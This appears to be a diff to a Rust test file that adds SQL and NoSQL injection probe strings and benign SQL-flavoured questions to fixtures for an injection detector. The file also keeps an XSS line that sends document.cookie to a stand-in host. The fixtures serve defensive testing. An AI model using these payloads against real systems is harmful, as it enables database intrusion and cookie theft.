@@ -75,6 +75,15 @@ const ATTACKS: &[(Category, Source, &str)] = &[
     (Category::Sqli, Source::User, "sort=;update accounts"),
     (Category::Sqli, Source::User, "t=from (select count(*), concat(version(), 0x3a) from `information_schema`.tables)"),
     (Category::Sqli, Source::User, "id=1\u{2019} OR \u{2019}1\u{2019}=\u{2019}1"),
+    // probing shapes: tautologies without `or`, quote juxtaposition, sub-selects, clause tails
+    (Category::Sqli, Source::User, "page=3&sort=5=5"),
+    (Category::Sqli, Source::User, "<?xml version=\"1.0\"?><order ref=\"q'or'q\"/>"),
+    (Category::Sqli, Source::User, "{\"filter\": \"x' OR price IS NOT NULL--\"}"),
+    (Category::Sqli, Source::User, "name=(SELECT TOP 1 password FROM logins)"),
+    (Category::Sqli, Source::User, "col=4 AS \"n\" FROM"),
+    (Category::Sqli, Source::User, "sort=id;SET @q=0x73656c656374;PREPARE s FROM @q;EXECUTE s;"),
+    (Category::Sqli, Source::User, "q=%27%3Bprint%27"),
+    (Category::Sqli, Source::User, "user={\"$exists\": true}"),
     // script injection
     (Category::Xss, Source::User, "<script>fetch('//x.example/'+document.cookie)</script>"),
     (Category::Xss, Source::User, "<img src=x onerror=alert(1)>"),
@@ -162,6 +171,14 @@ const BENIGN: &[(Source, &str)] = &[
     (Source::User, "and 7 more apples"),
     (Source::User, "For each item in (the list below), tell me if it exists in stock."),
     (Source::User, "How do I call alert() only once when the page loads?"),
+    // SQL named or quoted in questions
+    (Source::User, "How do I shrink tempdb in SQL Server?"),
+    (Source::User, "Why is this query slow: SELECT name FROM users WHERE id IN (SELECT user_id FROM orders)?"),
+    (Source::User, "Explain what EXECUTE IMMEDIATE does in PL/SQL."),
+    (Source::User, "In MySQL, is 1=1 always true?"),
+    (Source::User, "Write a query with CASE WHEN score > 50 THEN 'pass' END"),
+    (Source::User, "Create table of contents for chapters 1-5, as shown from page 2."),
+    (Source::User, "\"3/4\" - 1/2\" wide ribbon, 12\" long"),
 ];
 
 #[test]
